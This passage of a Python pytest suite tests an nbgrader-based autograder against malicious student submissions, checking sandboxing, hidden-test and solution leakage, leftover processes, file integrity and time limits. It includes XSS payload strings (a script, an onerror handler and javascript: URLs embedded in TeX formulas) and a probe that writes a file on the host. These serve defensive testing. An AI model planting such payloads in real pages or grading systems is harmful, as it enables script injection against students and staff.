        rf"\text{{{_SCRIPT}}}",
        rf"\text{{<img src=x {_ONERROR}>}}",
        rf"\href{{{_JAVASCRIPT_URL}}}{{b}}",
        rf"\style{{background: url({_JAVASCRIPT_URL})}}{{\theta}}",
    ]
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in assignment.manual:
            cell.source = "The bias is minus the threshold: " + ", ".join(f"${tex}$" for tex in formulas)


# The written answer's formulas carry a script, an onerror handler and javascript: URLs, which the feedback's
# conversion of TeX to MathML (\text, \href, \style) would write into the page as markup.
attack(
    "html_in_the_written_answers_formulas",
    "perceptron",
    "return np.dot(w, x) + b",
    edit=_html_in_the_written_answers_formulas,
    feedback_forbids=(_SCRIPT, _ONERROR, _JAVASCRIPT_URL),
)


HINT_LEAK = "learns_a_hidden_expected_value_from_the_hints"


# ---------------------------------------------------------------------------------------------------------------
# Building the submissions.
def _literals(course, name):
    return {
        "__COURSE__": repr(str(course)),
        "__REPO__": repr(str(REPO)),
        "__SITE__": repr(str(SITE)),
        "__MARKER__": repr(f"{MARKER}-{name}"),
        "__MARKER_TEXT__": f"{MARKER}-{name}",
        "__CELL_TIMEOUT__": repr(CELL_TIMEOUT),
    }


def _inject(code, literals):
    for placeholder, literal in literals.items():
        code = code.replace(placeholder, literal)
    return code


def _notebook(release, assignment, course, name, spec):
    notebook = fill(release, {**assignment.solutions, spec.function: spec.body})
    index = next(
        i for i, cell in enumerate(notebook.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == spec.function
    )
    if spec.top:
        notebook.cells[index].source += "\n\n\n" + spec.top.strip("\n")
    if spec.cell:
        notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(spec.cell.strip("\n")))
    if spec.armed:
        notebook.cells.append(nbformat.v4.new_code_cell(f"{ARMED} = True"))
    if spec.edit:
        spec.edit(notebook, assignment)
    literals = _literals(course, name)
    for cell in notebook.cells:
        cell.source = _inject(cell.source, literals)
    return notebook


# ---------------------------------------------------------------------------------------------------------------
# Snapshots.
def _sha256(path):
    try:
        if os.path.islink(path):
            return "symlink to " + os.readlink(path)
        with open(path, "rb") as handle:
            return hashlib.file_digest(handle, "sha256").hexdigest()
    except OSError as error:
        return f"unreadable ({error.__class__.__name__})"


def _digests(roots):
    """{path: sha256} of every file under the roots (symlinks by their target, not followed)."""
    paths = []
    for root in roots:
        for folder, _dirs, names in os.walk(root):
            paths += [os.path.join(folder, name) for name in names]
    with ThreadPoolExecutor(4) as pool:
        return dict(zip(paths, pool.map(_sha256, paths), strict=True))


def _recompiled(path):
    """True for a .pyc that Python wrote for its source as it is now (legitimate; the other engineer's edits)."""
    pyc = Path(path)
    if pyc.parent.name != "__pycache__" or pyc.suffix != ".pyc":
        return False
    source = pyc.parent.parent / (pyc.name.split(".")[0] + ".py")
    try:
        header, stat = pyc.read_bytes()[:16], source.stat()
    except OSError:
        return False
    return (
        int.from_bytes(header[4:8], "little") == 0
        and int.from_bytes(header[8:12], "little") == int(stat.st_mtime) & 0xFFFFFFFF
        and int.from_bytes(header[12:16], "little") == stat.st_size & 0xFFFFFFFF
    )


def _changes(before, after):
    return sorted(path for path in set(before) | set(after) if before.get(path) != after.get(path))


def _leftover_processes():
    """[(pid, state, command line)] of processes started by the run: an attack's marker or the run's tag."""
    found = []
    tag = f"{RUN_TAG[0]}={RUN_TAG[1]}".encode()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            command = (entry / "cmdline").read_bytes()
            environment = (entry / "environ").read_bytes()
            state = re.search(r"^State:\s*(.*)$", (entry / "status").read_text(), re.M).group(1)
        except (OSError, AttributeError):
            continue
        if MARKER.encode() in command or tag in environment.split(b"\0"):
            found.append((int(entry.name), state, command.replace(b"\0", b" ").decode(errors="replace")[:300]))
    return found


def _log_sections(log):
    """{student: the autograde log lines about that student's submission} (from "Sanitizing" to the next one)."""
    sections, student = {}, None
    for line in log.splitlines():
        match = re.search(r"/submitted/([^/]+)/", line)
        if "Sanitizing" in line and match:
            student = match.group(1)
        if student:
            sections.setdefault(student, []).append(line)
    return {student: "\n".join(lines) for student, lines in sections.items()}


def _student_seconds(log):
    """{student: seconds from its "Sanitizing" log line to the next student's (or to the last line of the log)}."""
    stamps, last = [], None
    for line in log.splitlines():
        match = re.match(r"(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d)\.(\d{3}) ", line)
        if not match:
            continue
        last = time.mktime(time.strptime(match.group(1), "%Y-%m-%d %H:%M:%S")) + int(match.group(2)) / 1000
        student = re.search(r"Sanitizing .*/submitted/([^/]+)/", line)
        if student:
            stamps.append((student.group(1), last))
    ends = [stamp for _student, stamp in stamps[1:]] + [last] * bool(stamps)
    return {student: round(end - start, 1) for (student, start), end in zip(stamps, ends, strict=True)}


def _stale_configuration_probe(course, release, assignment):
    """A copy of the course whose nbgrader_config.py no longer imports (as a copy made before a preprocessor was
    renamed), graded with one submission whose first cell writes a file: grading must stop, not run it unsandboxed."""
    folder = course.parent / "stale_configuration"
    folder.mkdir()
    for item in ("source", "release"):
        shutil.copytree(course / item, folder / item)
    shutil.copy(course / "gradebook.db", folder)
    configuration = (course / "nbgrader_config.py").read_text()
    stale = "from course_grader.nbgrader_plugin import RenamedSince  # what this copy was written for\n"
    (folder / "nbgrader_config.py").write_text(stale + configuration)
    evidence = folder / "RAN-ON-THE-HOST"
    notebook = fill(release, assignment.solutions)
    notebook.cells.insert(
        1, nbformat.v4.new_code_cell(f"import os\n\nopen({str(evidence)!r}, 'w').write(str(os.getuid()))")
    )
    submit(folder, NAME, "probe", notebook)
    result = nbgrader(folder, "autograde", NAME, env=LIMITS)
    return types.SimpleNamespace(
        folder=folder,
        log=result.stdout,
        status=result.returncode,
        ran=evidence.read_text() if evidence.exists() else None,
        grades=grades(folder, NAME, "probe"),
    )


# ---------------------------------------------------------------------------------------------------------------
# The graded course.
@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    started = time.monotonic()
    phases = {}

    def phase(label):
        phases[label] = round(time.monotonic() - started - sum(phases.values()), 1)

    course = make_course(tmp_path_factory.mktemp("attacks"), [NAME])
    generated = nbgrader(course, "generate_assignment", NAME, "--force")
    assert generated.returncode == 0, generated.stdout[-3000:]
    assignment = Assignment(course, NAME)
    release = release_notebook(course, NAME)
    phase("build and generate")

    submit(course, NAME, "aa_classmate", fill(release, assignment.solutions))
    submit(course, NAME, "aa_blank_classmate", release)
    first = nbgrader(course, "autograde", NAME, env=LIMITS)
    first_feedback = nbgrader(course, "generate_feedback", NAME)
    classmates_before = {student: grades(course, NAME, student) for student in BEFORE}
    phase("classmates graded before, with feedback")

    submissions = {
        f"attack_{name}": _notebook(release, assignment, course, name, spec) for name, spec in ATTACKS.items()
    }
    submissions[AFTER] = fill(release, assignment.solutions)
    for student, notebook in submissions.items():
        submit(course, NAME, student, notebook)
    course_before = _digests([course])
    protected_before = _digests(PROTECTED)
    phase("submissions and snapshots")

    clock = time.monotonic()
    graded = nbgrader(course, "autograde", NAME, LOG_FORMAT, env={**LIMITS, RUN_TAG[0]: RUN_TAG[1]})
    seconds = time.monotonic() - clock
    leftovers = _leftover_processes()
    phase("autograde")
    with ThreadPoolExecutor(1) as pool:
        protected_after = pool.submit(_digests, PROTECTED)
        feedback = nbgrader(course, "generate_feedback", NAME)
        protected_after = protected_after.result()
    course_after = _digests([course])
    phase("feedback and snapshots")
    stale = _stale_configuration_probe(course, release, assignment)
    phase("stale configuration probe")

    students = [*BEFORE, *submissions]
    return types.SimpleNamespace(
        course=course,
        assignment=assignment,
        submissions=submissions,
        first_log=first.stdout,
        first_status=first.returncode,
        first_feedback_status=first_feedback.returncode,
        classmates_before=classmates_before,
        log=graded.stdout,
        status=graded.returncode,
        sections=_log_sections(graded.stdout),
        seconds=seconds,
        student_seconds=_student_seconds(graded.stdout),
        leftovers=leftovers,
        feedback_log=feedback.stdout,
        feedback_status=feedback.returncode,
        grades={student: grades(course, NAME, student) for student in students},
        course_before=course_before,
        course_after=course_after,
        protected_before=protected_before,
        protected_after=protected_after,
        phases=phases,
        stale=stale,
    )


def _excerpt(attacked, student, size=3000):
    return attacked.sections.get(student, f"(no log section for {student}; end of the log:)\n" + attacked.log)[-size:]


def _mismatches(expected, got):
    return {
        grade_id: (expected[grade_id], (got or {}).get(grade_id))
        for grade_id in expected
        if expected[grade_id] != (got or {}).get(grade_id)
    }


# ---------------------------------------------------------------------------------------------------------------
# Per attack.
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_attacked_function_scores_zero_and_the_rest_full(attacked, name):
    spec, student = ATTACKS[name], f"attack_{name}"
    got = attacked.grades[student]
    assert got is not None, f"{student} was not graded:\n{_excerpt(attacked, student)}"
    expected = attacked.assignment.expected_scores(attacked.assignment.ids_of(spec.function))
    wrong = _mismatches(expected, got)
    assert not wrong, (
        f"{student} (attacks {spec.function}): grade id -> (expected, got): {wrong}\nall scores: {got}\n"
        f"log:\n{_excerpt(attacked, student)}"
    )


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_no_process_of_the_attack_is_left(attacked, name):
    mine = [process for process in attacked.leftovers if f"{MARKER}-{name}" in process[2]]
    assert not mine, f"processes of attack_{name} alive after autograde returned (pid, state, command): {mine}"


def _feedback(attacked, student):
    page = attacked.course / "feedback" / student / NAME / f"{NAME}.html"
    if not page.exists():
        pytest.fail(f"no feedback for {student}:\n{attacked.feedback_log[-3000:]}")
    return page, page.read_text()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_feedback_shows_no_solution_or_hidden_test(attacked, name):
    spec, student = ATTACKS[name], f"attack_{name}"
    page, html = _feedback(attacked, student)
    text = visible_text(html)
    own = "\n".join(cell.source for cell in attacked.submissions[student].cells)
    secret = {line.strip() for line in attacked.assignment.solutions[spec.function].splitlines()}
    for cell in attacked.assignment.source.cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            secret |= {line.strip() for line in cell.source.split("### BEGIN HIDDEN TESTS")[1].splitlines()}
    public = {f"{function}," for function in attacked.assignment.functions}  # a graded function named as an argument
    shown = sorted(line for line in secret - public if len(line) > 12 and line in text and line not in own)
    assert not shown, f"{page} shows solution or hidden-test lines that {student} did not write: {shown}"
    for marker in ("BEGIN HIDDEN TESTS", "check_hidden(", "BEGIN SOLUTION"):
        assert marker not in text or marker in own, f"{page} shows {marker!r}"


PLANTING = sorted(name for name, spec in ATTACKS.items() if spec.feedback_forbids)


class _LiveHTML(HTMLParser):
    """What of an HTML page a browser would run: the text of its scripts and its event-handler attributes."""

    def __init__(self):
        super().__init__()
        self.live, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.live.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.live.append(data)


@pytest.mark.parametrize("name", PLANTING)
def test_the_feedback_holds_no_planted_html(attacked, name):
    page, html = _feedback(attacked, f"attack_{name}")
    literals = _literals(attacked.course, name)
    markers = {re.search(r"XSS-[\w-]+", _inject(item, literals)).group() for item in ATTACKS[name].feedback_forbids}
    parser = _LiveHTML()
    parser.feed(html)
    planted = [live for live in parser.live if any(marker in live for marker in markers)]
    assert not planted, f"{page} would run what attack_{name} planted (a script or an event handler): {planted}"


@pytest.mark.parametrize("name", sorted(name for name, spec in ATTACKS.items() if spec.feedback_expects))
def test_the_feedback_shows_the_limit_that_held(attacked, name):
    page, html = _feedback(attacked, f"attack_{name}")
    text = visible_text(html)
    found = re.search(ATTACKS[name].feedback_expects, text)
    near = re.findall(r"^.*(?:children still|processes started|time limit|got: ).*$", text, re.M)
    assert found, (
        f"{ATTACKS[name].feedback_expects!r} not in {page} (the run was given {LIMITS} in its environment); lines "
        f"about it: {near}"
    )


def test_the_feedback_never_reveals_a_hidden_expected_value(attacked, monkeypatch):
    from course_grader import hidden

    function, cases = ATTACKS[HINT_LEAK].function, []
    monkeypatch.setattr(hidden, "check_hidden", lambda _function, name, found, **_options: cases.append((name, found)))
    for cell in attacked.assignment.source.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in attacked.assignment.ids_of(function):
            if cell.metadata.nbgrader.grade_id in attacked.assignment.hidden:
                exec(compile(cell.source, cell.metadata.nbgrader.grade_id, "exec"), {"np": np, function: None})
    values = [np.asarray(hidden.reference(name, *case.args, **case.kwargs)) for name, found in cases for case in found]
    scalars = [float(value) for value in values if value.ndim == 0]
    if not scalars:
        pytest.fail(f"no hidden case of {function} has a scalar reference value: {cases}")
    page, html = _feedback(attacked, f"attack_{HINT_LEAK}")
    ratios = [float(r) for r in re.findall(r"All your values are (\S+) times the expected ones", visible_text(html))]
    revealed = [(1 / r, value) for r in ratios for value in scalars if abs(1 / r - value) <= 1e-5 * abs(value)]
    assert not revealed, (
        f"{page}: attack_{HINT_LEAK} returned 1.0 and the hints give hidden reference values as 1/ratio "
        f"(derived, reference): {revealed}"
    )
    # The messages of the hidden test cells (visible ones may show expected values: those are in the notebook).
    graded = attacked.course / "autograded" / f"attack_{HINT_LEAK}" / NAME / f"{NAME}.ipynb"
    hidden_ids = attacked.assignment.hidden & attacked.assignment.ids_of(function)
    messages = [
        "\n".join(line for output in cell.outputs for line in output.get("traceback", []))
        for cell in nbformat.read(graded, as_version=4).cells
        if cell.metadata.get("nbgrader", {}).get("grade_id") in hidden_ids
    ]
    assert messages and all("hidden case" in message for message in messages), messages
    leaks = [message for message in messages if "largest difference" in message or " times the expected" in message]
    assert not leaks, f"hidden-case messages that give a size relative to the reference: {leaks}"


@pytest.mark.parametrize("name", sorted(name for name, spec in ATTACKS.items() if spec.log_expects))
def test_the_log_says_what_stopped_the_attack(attacked, name):
    section = _excerpt(attacked, f"attack_{name}", 20000)
    assert re.search(ATTACKS[name].log_expects, section), (
        f"{ATTACKS[name].log_expects!r} not in the log of attack_{name} (the run was given {LIMITS} in its "
        f"environment; it took {attacked.student_seconds.get(f'attack_{name}')} s):\n{section[-3000:]}"
    )


# ---------------------------------------------------------------------------------------------------------------
# The whole run.
def test_the_classmates_graded_before_keep_their_grades(attacked):
    assert attacked.first_status == 0, attacked.first_log[-3000:]
    reference = attacked.assignment.expected_scores(set())
    blank = attacked.assignment.expected_scores(set(attacked.assignment.points))
    before = attacked.classmates_before
    assert _mismatches(reference, before["aa_classmate"]) == {}, f"before the attacks: {before}"
    assert _mismatches(blank, before["aa_blank_classmate"]) == {}, f"before the attacks: {before}"
    after = {student: attacked.grades[student] for student in BEFORE}
    assert after == before, f"grades before the attacks: {before}\nafter: {after}"


def test_the_classmate_graded_after_the_attackers_gets_full_marks(attacked):
    wrong = _mismatches(attacked.assignment.expected_scores(set()), attacked.grades[AFTER])
    assert not wrong, f"{AFTER}: grade id -> (expected, got): {wrong}\nlog:\n{_excerpt(attacked, AFTER)}"


def test_the_run_succeeds_and_reports_no_classmate_as_failed(attacked):
    failed = [line for line in attacked.log.splitlines() if "error processing" in line.lower() or "| ERROR]" in line]
    classmates = [line for line in failed if any(f"/{student}/" in line for student in (*BEFORE, AFTER))]
    assert not classmates, "\n".join(classmates)
    assert attacked.status == 0, f"autograde exit status {attacked.status}; errors:\n" + "\n".join(failed)[-3000:]
    assert attacked.feedback_status == 0, attacked.feedback_log[-3000:]


def test_no_other_file_of_the_course_changed(attacked):
    def graded_here(path):
        relative = Path(path).relative_to(attacked.course).parts
        return relative[0] in ("feedback", "gradebook.db", ".nbgrader.log") or (
            relative[0] == "autograded" and (relative[1].startswith("attack_") or relative[1] == AFTER)
        )

    changed = [path for path in _changes(attacked.course_before, attacked.course_after) if not graded_here(path)]
    detail = {path: (attacked.course_before.get(path), attacked.course_after.get(path)) for path in changed}
    assert not changed, f"changed, created or deleted by the graded run (path: (before, after)): {detail}"


def _attack_mark(path):
    """What in a changed file shows an attack's hand (its marker, the daemon's or the forged feedback's text)."""
    try:
        data = b"" if os.path.islink(path) else Path(path).read_bytes()
    except OSError:
        return None
    return [mark.decode() for mark in (MARKER.encode(), b"owned by a daemon", b"forged feedback") if mark in data]


def test_no_repository_or_installed_file_changed(attacked):
    """Installed files must not change at all. The repository is edited by other people while the suite runs, so a
    changed repository file fails only when it carries an attack's mark (the attacks write only marked text there);
    other changes are reported as a warning."""
    changed = [
        path
        for path in _changes(attacked.protected_before, attacked.protected_after)
        if not (path in attacked.protected_after and _recompiled(path))
    ]
    detail = {path: (attacked.protected_before.get(path), attacked.protected_after.get(path)) for path in changed}
    marked = {path: _attack_mark(path) for path in changed if _attack_mark(path)}
    assert not marked, f"files written by the attacks (path: marks): {marked}\nall changes: {detail}"
    installed = {path: change for path, change in detail.items() if Path(path).is_relative_to(SITE)}
    assert not installed, f"installed files changed while grading (path: (sha256 before, after)): {installed}"
    edited = sorted(set(detail) - set(installed))
    if edited:
        warnings.warn(f"repository files changed during the run, without any attack's mark: {edited}", stacklevel=1)


def test_the_gradebook_is_sound(attacked):
    with sqlite3.connect(f"file:{attacked.course / 'gradebook.db'}?mode=ro", uri=True) as database:
        status = database.execute("PRAGMA integrity_check").fetchall()
    assert status == [("ok",)], status


def test_a_configuration_that_fails_to_load_stops_grading(attacked):
    stale = attacked.stale
    errors = [line for line in stale.log.splitlines() if "ERROR" in line or "Error" in line][:10]
    recorded = {name: score for name, score in (stale.grades or {}).items() if score}  # no point gained
    assert stale.ran is None and not recorded and "grading refused" in stale.log, (
        f"in {stale.folder}, whose nbgrader_config.py raises ImportError, autograde exited {stale.status}, ran the "
        f"submission on the host (its first cell wrote the file with uid {stale.ran}) and recorded the grades "
        f"{recorded}; the log only says:\n" + "\n".join(errors)
    )


def test_no_process_of_the_run_is_left(attacked):
    assert not attacked.leftovers, f"alive after autograde returned (pid, state, command): {attacked.leftovers}"


def test_the_run_stays_within_its_time_limits(attacked):
    """Each stage of a submission (sandboxed execution, checker) is bounded by the notebook's time limit plus the
    starts of its processes; a submission that uses none of its limits takes a few seconds."""
    per_submission = 2 * NOTEBOOK_TIMEOUT + 20
    slow = [name for name, spec in ATTACKS.items() if spec.slow]
    bound = len(slow) * per_submission + (len(attacked.submissions) - len(slow)) * 20 + 30
    summary = (
        f"autograde took {attacked.seconds:.0f} s for {len(attacked.submissions)} submissions ({len(slow)} slow: "
        f"{slow}), bound {bound} s; seconds per phase of the module: {attacked.phases}; per student: "
        f"{attacked.student_seconds}"
    )
    print("\n" + summary)
    assert set(attacked.student_seconds) == set(attacked.submissions), summary
    over = {student: seconds for student, seconds in attacked.student_seconds.items() if seconds > per_submission}
    assert not over, f"over {per_submission} s: {over}\n{summary}"
    assert attacked.seconds < bound, summary
